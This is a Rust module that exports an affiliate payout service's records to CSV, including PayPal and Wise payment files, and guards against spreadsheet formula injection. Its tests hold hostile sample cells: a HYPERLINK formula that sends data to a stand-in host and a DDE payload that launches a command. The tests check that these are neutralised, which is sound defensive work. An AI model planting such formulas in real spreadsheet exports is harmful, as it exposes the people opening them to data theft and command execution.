//! CSV files: lists as exported by `?format=csv`, and a payout's items in the layouts the
//! tools that send money read (PayPal Payouts' bulk upload, Wise's batch payment). The
//! columns of each are documented in `docs/paying-partners.md`.

use std::borrow::Cow;

use serde::Deserialize;
use utoipa::ToSchema;

use crate::{Error, Result};
use reftrack_domain::money::major_units_text;
use reftrack_domain::time::iso;
use reftrack_store::{CommissionRow, Payout, PayoutItem, ProgramPartnerRow};

/// The layouts a payout exports to.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize, ToSchema)]
#[serde(rename_all = "lowercase")]
pub enum PayoutFormat {
    /// The items as the API lists them, with a header row.
    Csv,
    /// PayPal Payouts' bulk upload file: no header row.
    Paypal,
    /// Wise's batch payment file (send by email), with its header row.
    Wise,
}

impl PayoutFormat {
    /// Reads `format`; absent means `csv`.
    pub fn parse(format: Option<&str>) -> Result<Self> {
        match format.map(str::trim) {
            None | Some("") | Some("csv") => Ok(PayoutFormat::Csv),
            Some("paypal") => Ok(PayoutFormat::Paypal),
            Some("wise") => Ok(PayoutFormat::Wise),
            Some(_) => Err(Error::invalid("format must be one of: csv, paypal, wise")),
        }
    }

    /// The file name a download of payout `id` gets.
    pub fn file_name(self, id: i64) -> String {
        match self {
            PayoutFormat::Csv => format!("payout-{id}.csv"),
            PayoutFormat::Paypal => format!("payout-{id}-paypal.csv"),
            PayoutFormat::Wise => format!("payout-{id}-wise.csv"),
        }
    }
}

/// A CSV writer into memory; rows are plain strings.
struct Sheet(csv::Writer<Vec<u8>>);

impl Sheet {
    fn new() -> Self {
        Sheet(csv::Writer::from_writer(Vec::new()))
    }

    fn row<I, S>(&mut self, fields: I)
    where
        I: IntoIterator<Item = S>,
        S: AsRef<[u8]>,
    {
        let cells = fields.into_iter().map(|f| inert(f.as_ref()).into_owned());
        // Writing into a Vec cannot fail.
        self.0.write_record(cells).expect("CSV into memory");
    }

    fn bytes(self) -> Vec<u8> {
        self.0.into_inner().expect("CSV into memory")
    }
}

/// A cell that a spreadsheet shows as text. A cell starting with `=`, `+`, `-`, `@`, a
/// tab or a carriage return is a formula to Excel, LibreOffice and Google Sheets, and
/// names, emails and references come from partners and integrators: such a cell gets a
/// leading `'`, unless it is a plain number (a negative amount stays a number).
fn inert(cell: &[u8]) -> Cow<'_, [u8]> {
    match cell.first() {
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r') if !is_number(cell) => {
            let mut quoted = Vec::with_capacity(cell.len() + 1);
            quoted.push(b'\'');
            quoted.extend_from_slice(cell);
            Cow::Owned(quoted)
        }
        _ => Cow::Borrowed(cell),
    }
}

/// An optionally signed decimal number: digits with at most one `.` among them.
fn is_number(cell: &[u8]) -> bool {
    let digits = cell.strip_prefix(b"-").unwrap_or(cell);
    let digits = digits.strip_prefix(b"+").unwrap_or(digits);
    let (whole, fraction) = match digits.iter().position(|&b| b == b'.') {
        Some(dot) => (&digits[..dot], &digits[dot + 1..]),
        None => (digits, &b""[..]),
    };
    !whole.is_empty()
        && whole.iter().all(u8::is_ascii_digit)
        && fraction.iter().all(u8::is_ascii_digit)
}

fn opt(v: Option<impl ToString>) -> String {
    v.map(|v| v.to_string()).unwrap_or_default()
}

fn time(ms: Option<i64>) -> String {
    ms.map(iso).unwrap_or_default()
}

/// The header row of a commission export.
pub const COMMISSION_HEADER: [&str; 18] = [
    "id",
    "partner_id",
    "sale_id",
    "transaction_id",
    "kind",
    "amount_cents",
    "currency",
    "status",
    "created_at",
    "approved_at",
    "paid_at",
    "payout_id",
    "original_commission_id",
    "reject_reason",
    "flags",
    "group_id",
    "description",
    "awaiting_rate",
];

/// Commission rows as CSV, with the header row when `header`.
pub fn commissions_csv(rows: &[CommissionRow], header: bool) -> Vec<u8> {
    let mut sheet = Sheet::new();
    if header {
        sheet.row(COMMISSION_HEADER);
    }
    for c in rows {
        sheet.row([
            c.id.to_string(),
            c.partner_id.to_string(),
            opt(c.sale_id),
            opt(c.transaction_id.as_deref()),
            c.kind.to_string(),
            c.amount_cents.to_string(),
            c.currency.clone(),
            c.status.to_string(),
            iso(c.created_at),
            time(c.approved_at),
            time(c.paid_at),
            opt(c.payout_id),
            opt(c.original_commission_id),
            opt(c.reject_reason.as_deref()),
            c.flags
                .iter()
                .map(|f| f.as_str())
                .collect::<Vec<_>>()
                .join(";"),
            opt(c.group_id),
            opt(c.description.as_deref()),
            c.awaiting_rate.to_string(),
        ]);
    }
    sheet.bytes()
}

/// The header row of a program-partner export.
pub const PROGRAM_PARTNER_HEADER: [&str; 12] = [
    "partner_id",
    "name",
    "email",
    "code",
    "status",
    "created_at",
    "clicks",
    "leads",
    "sales",
    "revenue_cents",
    "commission_cents",
    "group_id",
];

/// A program's partner rows as CSV, with the header row when `header`.
pub fn program_partners_csv(rows: &[ProgramPartnerRow], header: bool) -> Vec<u8> {
    let mut sheet = Sheet::new();
    if header {
        sheet.row(PROGRAM_PARTNER_HEADER);
    }
    for r in rows {
        sheet.row([
            r.partner_id.to_string(),
            r.name.clone(),
            opt(r.email.as_deref()),
            r.code.clone(),
            r.status.to_string(),
            iso(r.created_at),
            r.clicks.to_string(),
            r.leads.to_string(),
            r.sales.to_string(),
            r.revenue_cents.to_string(),
            r.commission_cents.to_string(),
            r.group_id.to_string(),
        ]);
    }
    sheet.bytes()
}

/// The header row of a payout list export.
pub const PAYOUT_HEADER: [&str; 9] = [
    "id",
    "program_id",
    "status",
    "currency",
    "total_cents",
    "reference",
    "created_at",
    "paid_at",
    "cancelled_at",
];

/// Payout rows as CSV, with the header row when `header`.
pub fn payouts_csv(rows: &[Payout], header: bool) -> Vec<u8> {
    let mut sheet = Sheet::new();
    if header {
        sheet.row(PAYOUT_HEADER);
    }
    for p in rows {
        sheet.row([
            p.id.to_string(),
            p.program_id.to_string(),
            p.status.to_string(),
            p.currency.clone(),
            p.total_cents.to_string(),
            opt(p.reference.as_deref()),
            iso(p.created_at),
            time(p.paid_at),
            time(p.cancelled_at),
        ]);
    }
    sheet.bytes()
}

/// The header row of Wise's batch payment file, for recipients paid by email.
pub const WISE_HEADER: [&str; 8] = [
    "name",
    "recipientEmail",
    "paymentReference",
    "receiverType",
    "amountCurrency",
    "amount",
    "sourceCurrency",
    "targetCurrency",
];

/// The header row of the `csv` layout of a payout's items.
pub const ITEM_HEADER: [&str; 8] = [
    "payout_id",
    "partner_id",
    "partner_name",
    "payout_method",
    "payout_email",
    "amount_cents",
    "currency",
    "commission_count",
];

/// A payout's items in `format`.
pub fn payout_file(payout: &Payout, format: PayoutFormat) -> Vec<u8> {
    let items: &[PayoutItem] = payout.items.as_deref().unwrap_or_default();
    let currency = payout.currency.to_ascii_uppercase();
    let mut sheet = Sheet::new();
    match format {
        PayoutFormat::Csv => {
            sheet.row(ITEM_HEADER);
            for i in items {
                sheet.row([
                    payout.id.to_string(),
                    i.partner_id.to_string(),
                    i.partner_name.clone(),
                    opt(i.payout_method),
                    i.payout_email.clone(),
                    i.amount_cents.to_string(),
                    payout.currency.clone(),
                    i.commission_count.to_string(),
                ]);
            }
        }
        PayoutFormat::Paypal => {
            for i in items {
                sheet.row([
                    i.payout_email.clone(),
                    major_units_text(i.amount_cents, &payout.currency),
                    currency.clone(),
                    format!("payout-{}-partner-{}", payout.id, i.partner_id),
                    format!(
                        "Commissions ({}) of payout {}",
                        i.commission_count, payout.id
                    ),
                    "PAYPAL".to_string(),
                ]);
            }
        }
        PayoutFormat::Wise => {
            sheet.row(WISE_HEADER);
            for i in items {
                sheet.row([
                    i.partner_name.clone(),
                    i.payout_email.clone(),
                    format!("Payout {}", payout.id),
                    "PERSON".to_string(),
                    "target".to_string(),
                    major_units_text(i.amount_cents, &payout.currency),
                    currency.clone(),
                    currency.clone(),
                ]);
            }
        }
    }
    sheet.bytes()
}

/// The header row of an audit log export.
pub const AUDIT_HEADER: [&str; 12] = [
    "id",
    "at",
    "actor_type",
    "actor_id",
    "actor_email",
    "action",
    "program_id",
    "target_type",
    "target_id",
    "details",
    "ip",
    "request_id",
];

/// Audit log rows as CSV (`details` as its JSON text), with the header row when
/// `header`.
pub fn audit_csv(rows: &[reftrack_store::AuditRow], header: bool) -> Vec<u8> {
    let mut sheet = Sheet::new();
    if header {
        sheet.row(AUDIT_HEADER);
    }
    for r in rows {
        sheet.row([
            r.id.to_string(),
            iso(r.at),
            r.actor.kind.as_str().to_string(),
            opt(r.actor.id),
            opt(r.actor.email.as_deref()),
            r.action.clone(),
            opt(r.program_id),
            r.target.kind.clone(),
            r.target.id.to_string(),
            r.details.to_string(),
            opt(r.ip.as_deref()),
            opt(r.request_id.as_deref()),
        ]);
    }
    sheet.bytes()
}

#[cfg(test)]
mod tests {
    use super::*;
    use reftrack_domain::status::{PayoutMethod, PayoutStatus};

    fn payout() -> Payout {
        Payout {
            id: 7,
            program_id: 1,
            status: PayoutStatus::Pending,
            currency: "eur".into(),
            total_cents: 12_355,
            reference: None,
            created_at: 0,
            paid_at: None,
            cancelled_at: None,
            items: Some(vec![
                PayoutItem {
                    partner_id: 3,
                    partner_name: "Ann, \"A\"".into(),
                    payout_method: Some(PayoutMethod::Paypal),
                    payout_email: "ann@example.com".into(),
                    amount_cents: 12_345,
                    commission_count: 4,
                },
                PayoutItem {
                    partner_id: 5,
                    partner_name: "Bo".into(),
                    payout_method: None,
                    payout_email: "bo@example.com".into(),
                    amount_cents: 10,
                    commission_count: 1,
                },
            ]),
        }
    }

    fn text(format: PayoutFormat) -> String {
        String::from_utf8(payout_file(&payout(), format)).unwrap()
    }

    #[test]
    fn paypal_has_no_header_and_major_units() {
        assert_eq!(
            text(PayoutFormat::Paypal),
            "ann@example.com,123.45,EUR,payout-7-partner-3,Commissions (4) of payout 7,PAYPAL\n\
             bo@example.com,0.10,EUR,payout-7-partner-5,Commissions (1) of payout 7,PAYPAL\n"
        );
    }

    #[test]
    fn wise_has_its_header() {
        let t = text(PayoutFormat::Wise);
        let mut lines = t.lines();
        assert_eq!(lines.next(), Some(WISE_HEADER.join(",").as_str()));
        assert_eq!(
            lines.next(),
            Some("\"Ann, \"\"A\"\"\",ann@example.com,Payout 7,PERSON,target,123.45,EUR,EUR")
        );
    }

    #[test]
    fn csv_lists_items_in_cents() {
        let t = text(PayoutFormat::Csv);
        assert!(t.starts_with(&ITEM_HEADER.join(",")));
        assert!(t.contains("\n7,5,Bo,,bo@example.com,10,eur,1\n"));
    }

    #[test]
    fn cells_a_spreadsheet_would_run_are_quoted() {
        let cell = |c: &str| String::from_utf8(inert(c.as_bytes()).into_owned()).unwrap();
        for formula in [
            "=HYPERLINK(\"https://evil.example/?\"&A1)",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1:A2)",
            "\t=1",
            "\r=1",
            "-",
            "-.5",
            "1-",
        ] {
            let quoted = cell(formula);
            if formula.starts_with(['=', '+', '-', '@', '\t', '\r']) {
                assert_eq!(quoted, format!("'{formula}"), "{formula:?}");
            } else {
                assert_eq!(quoted, formula, "{formula:?}");
            }
        }
        for kept in [
            "-1250",
            "-12.50",
            "+3",
            "0.10",
            "Ann",
            "ann@example.com",
            "",
            "1-",
        ] {
            assert_eq!(cell(kept), kept, "{kept:?}");
        }
    }

    #[test]
    fn a_formula_in_a_name_reaches_the_file_as_text() {
        let mut p = payout();
        p.items.as_mut().unwrap()[1].partner_name = "=1+1".into();
        let t = String::from_utf8(payout_file(&p, PayoutFormat::Wise)).unwrap();
        assert!(t.contains("\n'=1+1,bo@example.com,Payout 7,"), "{t}");
    }

    #[test]
    fn formats_parse() {
        assert_eq!(PayoutFormat::parse(None).unwrap(), PayoutFormat::Csv);
        assert_eq!(
            PayoutFormat::parse(Some("wise")).unwrap(),
            PayoutFormat::Wise
        );
        assert!(PayoutFormat::parse(Some("xls")).is_err());
    }
}
